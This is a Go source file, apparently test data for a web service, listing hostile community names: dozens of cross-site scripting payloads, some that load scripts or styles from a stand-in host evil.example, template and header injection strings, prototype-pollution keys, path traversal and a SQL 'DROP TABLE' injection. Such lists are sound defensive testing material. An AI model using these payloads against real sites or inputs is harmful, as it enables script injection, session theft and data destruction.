package web

// hostileNames are what a community may be called by someone who means harm.
func hostileNames() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`</script><script>alert(1)</script>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href=javascript:alert(1)>x</a>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `data:text/html,<script>alert(1)</script>`,
		`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`,
		`<textarea autofocus onfocus=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`,
		`<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<object data=javascript:alert(1)>`,
		`<embed src=javascript:alert(1)>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		`<form action=javascript:alert(1)><input type=submit>`, `<button formaction=javascript:alert(1)>x</button>`,
		`<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<template><script>alert(1)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<!--><script>alert(1)</script>-->`,
		`<![CDATA[<script>alert(1)</script>]]>`, `<xmp><script>alert(1)</script></xmp>`, `" onmouseover="alert(1)`,
		`' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" style="position:fixed;inset:0" x="`, `{{constructor.constructor('alert(1)')()}}`,
		`${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `\"-alert(1)-\"`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\nsrc=x\nonerror=alert(1)>", "a\nevent: hello\ndata: {}\n\n", "a\r\nSet-Cookie: x=1",
		"a\u2028alert(1)//", "a\u2029alert(1)//", "\u202ethgir ot tfel\u202c", "\ufeff<script>alert(1)</script>",
		`__proto__`, `constructor`, `toString`, `hasOwnProperty`, `<x contenteditable onblur=alert(1)>x</x>`,
		`/api/v1/status`, `..%2f..%2fmetrics`, `c0"} 1\ngqlstream_ready 1`, `C:\windows`, `'; DROP TABLE communities; --`,
	}
}
